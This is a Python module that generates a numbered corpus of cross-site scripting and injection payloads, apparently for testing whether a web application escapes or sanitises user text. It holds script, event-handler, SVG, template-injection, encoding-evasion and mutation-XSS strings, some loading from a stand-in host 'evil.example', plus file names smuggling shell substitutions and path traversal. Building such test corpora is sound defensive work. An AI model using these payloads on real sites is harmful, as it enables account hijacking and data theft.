"""Words that try to run in a reader's browser: some hundred kinds of our own, each plain and breaking out of what may stand around it.

Each payload calls ``ran(N)`` with a number of its own, so that a browser can say which one ran and which one is only read.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence

__all__ = ["FOREIGN", "NAMES", "PAYLOADS", "batches", "numbers"]

FOREIGN = "evil.example"
"""The host that payloads call; no request may ever go there."""

_CALL = "ran(@)"
_TAGS = (
    f"<script>{_CALL}</script>", f"<SCRIPT>{_CALL}</SCRIPT>", f"<script/x>{_CALL}</script>", f"<script\n>{_CALL}</script\n>",
    f"<script type=module>{_CALL}</script>", f"<<script>{_CALL}//<</script>", f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"<script>{_CALL}",
    f"<script src=//{FOREIGN}/@.js></script>{_CALL}", f"<script src=data:text/javascript,{_CALL}></script>", f"<base href=//{FOREIGN}/>{_CALL}",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>", f"<iframe src=//{FOREIGN}/@></iframe>{_CALL}",
    f"<object data='data:text/html,<script>{_CALL}</script>'></object>", f"<embed src=//{FOREIGN}/@>{_CALL}",
    f"<meta http-equiv=refresh content='0;url=//{FOREIGN}/@'>{_CALL}", f"<meta http-equiv=refresh content='0;javascript:{_CALL}'>",
    f"<link rel=stylesheet href=//{FOREIGN}/@.css>{_CALL}", f"<form action=//{FOREIGN}/@><button autofocus>{_CALL}</form>",
    f"<isindex action=javascript:{_CALL}>", f"<applet code={_CALL}>", f"<frameset onload={_CALL}>", f"<portal src=javascript:{_CALL}>",
    f"<template><script>{_CALL}</script></template>", f"<plaintext>{_CALL}", f"<xmp><script>{_CALL}</script>", f"<textarea><script>{_CALL}</script>",
)  # fmt: skip
_EVENTS = (
    f"<img src=x onerror={_CALL}>", f"<IMG SRC=x OnErRoR={_CALL}>", f"<img/src=x/onerror={_CALL}>", f"<img src=x onerror\n=\n{_CALL}>",
    f"<img src=x onerror='{_CALL}'", f"<img src=x onerror=&#114;an(@)>{_CALL}", f"<image src=x onerror={_CALL}>", f"<img srcset=x onerror={_CALL}>",
    f"<body onload={_CALL}>", f"<body onpageshow={_CALL}>", f"<input autofocus onfocus={_CALL}>", f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>", f"<a id=@ tabindex=1 autofocus onfocus={_CALL}>x</a>", f"<details open ontoggle={_CALL}><summary>x</summary>",
    f"<video src=x onerror={_CALL}></video>", f"<video><source onerror={_CALL}></video>", f"<audio src=x onerror={_CALL}></audio>",
    f"<marquee onstart={_CALL}>x</marquee>", f"<div onmouseover={_CALL}>x</div>", f"<p onclick={_CALL}>x</p>", f"<b onpointerrawupdate={_CALL}>x</b>",
    f"<iframe onload={_CALL}></iframe>", f"<object data=x onerror={_CALL}></object>", f"<style onload={_CALL}></style>", f"<link rel=stylesheet href=x onerror={_CALL}>",
    f"<div contenteditable autofocus onfocus={_CALL}>x</div>", f"<i oncontentvisibilityautostatechange={_CALL} class=a>x</i>",
    f"<b popover onbeforetoggle={_CALL}>x</b>", f"<s onanimationstart={_CALL}>x</s>", f"<u ontransitionend={_CALL}>x</u>", f"<dialog open onclose={_CALL}>x",
)  # fmt: skip
_ATTRIBUTES = (
    f'" onmouseover={_CALL} x="', f"' onmouseover={_CALL} x='", f'" autofocus onfocus={_CALL} x="', f"' autofocus onfocus='{_CALL}", f"` onmouseover={_CALL} x=`",
    f" x onmouseover={_CALL} ", f'"/onload={_CALL}/"', f'" style="animation:x" onanimationstart="{_CALL}', f'" formaction="javascript:{_CALL}', f'" hx-on:load="{_CALL}',
    f'" hx-get="//{FOREIGN}/@" hx-trigger="load" x="{_CALL}', f'" href="javascript:{_CALL}" x="', f'\\" onload={_CALL} x=\\"', f'="" onclick={_CALL} x',
    f'" srcdoc="<script>{_CALL}</script>', f'" target="_blank" ping="//{FOREIGN}/@" x="{_CALL}',
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f"java\tscript:{_CALL}", f"java\nscript:{_CALL}", f" javascript:{_CALL}", f"\x01javascript:{_CALL}",
    f"javascript&colon;{_CALL}", f"&#106;avascript:{_CALL}", f"javascript://x%0a{_CALL}", f"javascript://{FOREIGN}/%0a{_CALL}", f"vbscript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>", f"data:image/svg+xml,<svg onload={_CALL}>", f"//{FOREIGN}/@?{_CALL}", f"\\\\{FOREIGN}\\@{_CALL}",
    f"/\\{FOREIGN}/@{_CALL}", f"https:{FOREIGN}/@{_CALL}", f"[x](javascript:{_CALL})", f"![x](//{FOREIGN}/@ '{_CALL}')", f"<javascript:{_CALL}>", f"view-source:{_CALL}",
    f"feed:javascript:{_CALL}", f"blob:{_CALL}", f"filesystem:{_CALL}",
)  # fmt: skip
_SVG = (
    f"<svg onload={_CALL}>", f"<svg/onload={_CALL}/>", f"<svg><script>{_CALL}</script></svg>", f"<svg><script href=data:,{_CALL} /></svg>",
    f"<svg><a xlink:href=javascript:{_CALL}><text y=9>x</text></a></svg>", f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=href to=javascript:{_CALL}></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>", f"<svg><image href=//{FOREIGN}/@ onerror={_CALL}></svg>",
    f"<svg><style>*{{}}</style><g onmouseover={_CALL}></g></svg>", f"</text></svg><img src=x onerror={_CALL}>", f"<svg><discard onbegin={_CALL}></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{_CALL} /><a id=x><text>x</text></a></svg>", f"<math href=javascript:{_CALL}>x</math>",
    f"<math><maction actiontype=statusline#{_CALL} xlink:href=javascript:{_CALL}>x</maction></math>", f"<svg><title><img src=x onerror={_CALL}></title></svg>",
)  # fmt: skip
_TEMPLATES = (
    f"{{{{{_CALL}}}}}", f"{{{{ constructor.constructor('{_CALL}')() }}}}", "{{ 7*7 }}" + _CALL, "{{ config }}" + _CALL, "{{ ''.__class__.__mro__ }}" + _CALL,
    "{% for x in (1).__class__.__base__.__subclasses__() %}" + _CALL + "{% endfor %}", "{% raw %}" + _CALL, "{# " + _CALL, f"${{{_CALL}}}", f"#{{{_CALL}}}",
    f"<%= {_CALL} %>", f"[[{_CALL}]]", f"<div hx-get=//{FOREIGN}/@ hx-trigger=load>{_CALL}</div>", f"<div hx-on::load={_CALL} hx-trigger=load>x</div>",
    f"<div hx-get=/ hx-trigger='load[{_CALL}]'>x</div>", f"<div hx-vals='js:{{x:{_CALL}}}' hx-get=/ hx-trigger=load>x</div>",
    f"<div x-data x-init={_CALL}>x</div>", f"<div ng-app ng-init={_CALL}>x</div>", f"<div v-html={_CALL}>x</div>", f"%(x)s %s {{0.__class__}} {_CALL}",
)  # fmt: skip
_CHARACTERS = (
    f"＜script＞{_CALL}＜/script＞", f"\u3008script\u3009{_CALL}", f"<\u200bscript>{_CALL}</script>", f"<script\u3000>{_CALL}</script>", f"\ufeff<script>{_CALL}</script>",
    f"\u202e>tpircs<{_CALL}", f"\u2066<img src=x onerror={_CALL}>\u2069", f"<img src=x onerror\u00a0={_CALL}>", f"<im\u00adg src=x onerror={_CALL}>",
    f"\u2028<script>{_CALL}</script>\u2029", f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e", f"\\x3cscript\\x3e{_CALL}", f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"%253Cscript%253E{_CALL}", f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-", f"<ſcript>{_CALL}</ſcript>", f"<\u212amg src=x onerror={_CALL}>", f"<img src=x onerror={_CALL}\u0338>",
    f"\u00bc\u0000script\u00be{_CALL}", f"<img src=x onerror={_CALL}>\ufffe", f"\U000e003cscript\U000e003e{_CALL}", f"\u226e\u226f<script>{_CALL}</script>",
)  # fmt: skip
_ENTITIES = (
    f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"&#60script&#62{_CALL}&#60/script&#62", f"&#x3C;img src=x onerror={_CALL}&#x3E;", f"&#0000060;script&#0000062;{_CALL}",
    f"&amp;lt;script&amp;gt;{_CALL}", f"&lt<img src=x onerror={_CALL}&gt", f"&quot; onmouseover={_CALL} &quot;", f"&apos;><img src=x onerror={_CALL}>", f"&#x22 onload={_CALL}",
    f"&<img src=x onerror={_CALL}>", f"&#<script>{_CALL}</script>", f"&#x110000;<svg onload={_CALL}>", f"&NewLine;<svg onload={_CALL}>", f"&lbrace;&lbrace;{_CALL}&rbrace;&rbrace;",
    f"&LT;script&GT;{_CALL}", f"&#xD800;<img src=x onerror={_CALL}>",
)  # fmt: skip
_STYLES = (
    f"<style>*{{background:url(//{FOREIGN}/@)}}</style>{_CALL}", f"<style>@import '//{FOREIGN}/@';</style>{_CALL}", f"<p style=background:url(//{FOREIGN}/@)>{_CALL}</p>",
    f"<p style=width:expression({_CALL})>x</p>", f"<p style='-moz-binding:url(//{FOREIGN}/@#x)'>{_CALL}</p>", f"</style><script>{_CALL}</script>",
    f'" style="position:fixed;inset:0" onmouseover="{_CALL}', f"<style>a{{b:'</style><img src=x onerror={_CALL}>'}}", f"<link rel=preload as=style href=//{FOREIGN}/@>{_CALL}",
    f"<style>@font-face{{font-family:x;src:url(//{FOREIGN}/@)}}*{{font-family:x}}</style>{_CALL}",
)  # fmt: skip
_JSON = (
    f"</script><script>{_CALL}</script>", f'"}};{_CALL};//', f"';{_CALL};//", f"'-{_CALL}-'", f'"-{_CALL}-"', f"\\';{_CALL};//", f'\\"}};{_CALL};//', f"`${{{_CALL}}}`",
    f"<!--<script>{_CALL}", f"]]><script>{_CALL}</script>", f"*/{_CALL}/*", f"\\u2028{_CALL}", f'{{"__proto__":{{"x":"{_CALL}"}}}}', f"]}}');{_CALL};('", f")]}}',{_CALL}",
    f"--><script>{_CALL}</script>", f"</noscript><script>{_CALL}</script>", f"</template><script>{_CALL}</script>",
)  # fmt: skip
_MUTATED = (
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">', f'<svg></p><style><a id="</style><img src=x onerror={_CALL}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_CALL}&gt;'>", f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror={_CALL}>'>",
    f"<table><td background=javascript:{_CALL}>", f"<a href='x'><svg><a href=javascript:{_CALL}>x", f"<form id=x><input name=attributes><input name=innerHTML value={_CALL}>",
    f"<a id=htmx name=config href=javascript:{_CALL}>x</a>", f"<img name=body src=x onerror={_CALL}>", f"<!--><img src=x onerror={_CALL}>-->", f"<!-- --!><img src=x onerror={_CALL}> -->",
    f"<![CDATA[><img src=x onerror={_CALL}>]]>", f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_CALL}</x:script>", f"<x onx=1 onclick={_CALL}>x", f"</p/onclick={_CALL}>",
    f"<img src='x\n\nonerror={_CALL}>' onerror={_CALL}>", f"<button popovertarget=x onclick={_CALL}>x",
)  # fmt: skip
NAMES = tuple(
    name.replace("@", str(number))
    for number, name in enumerate(
        (
            f"<img src=x onerror={_CALL}>.txt", f'x" onerror="{_CALL}".txt', f"x' onmouseover='{_CALL}.txt", f"<script>{_CALL}<script>.txt", f"{{{{{_CALL}}}}}.txt",
            f"javascript:{_CALL}.txt", f"x.txt<svg onload={_CALL}>.txt", f"..%2f..%2f{_CALL}.txt", f"x\u202etxt.{_CALL}.txt", f"&lt;b&gt;{_CALL}.txt", f"-rf {_CALL}.txt",
            f"CON {_CALL}.txt", f"$(touch x){_CALL}.txt", f"`id`{_CALL}.txt", f"%s%n{_CALL}.txt", f"x;filename=y.html {_CALL}.txt",
        ),
        start=100_000,
    )
)  # fmt: skip
"""Names for files."""

_KINDS = (_TAGS, _EVENTS, _ATTRIBUTES, _ADDRESSES, _SVG, _TEMPLATES, _CHARACTERS, _ENTITIES, _STYLES, _JSON, _MUTATED)
_OUT_OF = ("{}", '">{}', "'>{}<b x='", "--></title></textarea></select></script></svg>{}")
"""Plain, out of an attribute in either kind of quotes, and out of the elements that hold plain text."""

PAYLOADS: tuple[str, ...] = tuple(
    around.replace("{}", payload.replace("@", str(number * len(_OUT_OF) + way)))
    for number, payload in enumerate(one for kind in _KINDS for one in kind)
    for way, around in enumerate(_OUT_OF)
)


def numbers(words: str) -> frozenset[int]:
    """The numbers of the payloads that can be read in ``words``."""
    return frozenset(int(number) for number in re.findall(r"ran\((\d+)\)", words))


def batches(payloads: Iterable[str], longest: int, between: str = " ") -> Sequence[str]:
    """Payloads joined into as few lines as may be, none longer than ``longest`` characters unless a single payload is."""
    lines: list[str] = []
    for payload in payloads:
        if lines and len(lines[-1]) + len(between) + len(payload) <= longest:
            lines[-1] += between + payload
        else:
            lines.append(payload)
    return lines
